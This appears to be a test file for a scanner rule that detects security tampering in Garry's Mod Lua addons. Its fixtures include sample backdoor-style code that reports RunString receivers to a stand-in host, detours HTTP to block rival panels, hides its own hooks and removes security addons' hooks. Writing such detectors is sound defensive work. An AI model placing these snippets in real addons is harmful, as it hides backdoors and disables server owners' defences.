// Valid and invalid cases of the `security_tampering` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './security_tampering.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('security_tampering', () => {
  it('net.Receivers scanned with jit.util.funck and reported', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local found = {}\nfor name, fn in pairs(net.Receivers) do if jit.util.funck(fn, -1) == "RunString" then found[#found + 1] = name end end\nhttp.Post("https://a.invalid/r", {rm = table.concat(found, ",")})',
    });
    expect(worst(findings)).toBe(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('HTTP detoured to block rival panels', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local rivals = {"kpanel", "gvacdoor", "cipher-panel"}\nlocal oFetch = http.Fetch\nhttp.Fetch = function(url, ...) for _, r in ipairs(rivals) do if string.find(url, r, 1, true) then return end end return oFetch(url, ...) end',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('HTTP firewall of a security addon', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local oFetch = http.Fetch\nhttp.Fetch = function(url, ...) if Blocklist[url] then return end return oFetch(url, ...) end',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('probing for a security addon is noted', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'if file.Exists("gac/settings.txt", "DATA") or file.Exists("addons/cac", "GAME") then return end',
    });
    expect(findings.filter((f) => f.pattern.startsWith('probe for'))).toHaveLength(2);
  });
  it('a cache file is no security addon', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua':
        'if file.Exists("pac3_cache/index.txt", "DATA") then print(file.Read("pac3_cache/index.txt", "DATA")) end',
    });
    expect(findings).toEqual([]);
  });
  it('no detour', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': 'hook.Add("Think", "x", function() end)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('hook.GetTable replaced to hide its own hooks, in a file going after security addons', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local hidden = { Prof_Tick = true }',
        'local getTable = hook.GetTable',
        'function hook.GetTable()',
        ' local copy = {}',
        ' for ev, list in pairs(getTable()) do copy[ev] = {} for name, fn in pairs(list) do if not hidden[name] then copy[ev][name] = fn end end end',
        ' return copy',
        'end',
        'local rivals = { "nova", "snte", "gac", "backdoorshield" }',
        'timer.Simple(10, function()',
        ' for ev, list in pairs(getTable()) do for name in pairs(list) do for _, r in ipairs(rivals) do if tostring(name):lower():find(r, 1, true) then hook.Remove(ev, name) end end end end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('a hook library that defines its own hook.GetTable', () => {
    const findings = check(rule, {
      'lua/includes/modules/myhook.lua': [
        'local hooks = {}',
        'function hook.Add(ev, name, fn) hooks[ev] = hooks[ev] or {} hooks[ev][name] = fn end',
        'function hook.GetTable() return hooks end',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('receivers inspected by a security addon that keeps what it finds (not high)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local suspicious = {}',
        'for name, fn in pairs(net.Receivers) do',
        '  if jit.util.funck(fn, -1) == "RunString" then suspicious[name] = true end',
        'end',
        'hook.Add("PlayerSay", "report", function(ply, text) if text == "!netscan" and ply:IsAdmin() then PrintTable(suspicious) end end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThan(RANK.medium);
  });
});
